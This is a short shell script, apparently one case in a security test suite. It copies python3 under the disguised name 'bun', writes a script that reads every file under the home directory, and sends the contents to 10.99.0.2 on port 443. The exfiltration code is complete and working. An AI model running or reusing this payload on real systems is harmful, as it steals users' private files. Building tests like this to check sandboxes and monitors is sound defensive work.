# SPDX-License-Identifier: Apache-2.0
TITLE="a second runtime is dropped, scans the tree and sends what it finds"
ROW="E09 P09"
attack() {
	cp "$(readlink -f "$(command -v python3)")" "$WORK/bun"
	cat >scan.py <<-'END'
	import os, socket
	loot = b''
	for folder, _, names in os.walk(os.environ['HOME']):
	    for name in names:
	        loot += open(os.path.join(folder, name), 'rb').read()
	socket.create_connection(('10.99.0.2', 443), 5).sendall(loot)
	END
	"$WORK/bun" scan.py
}
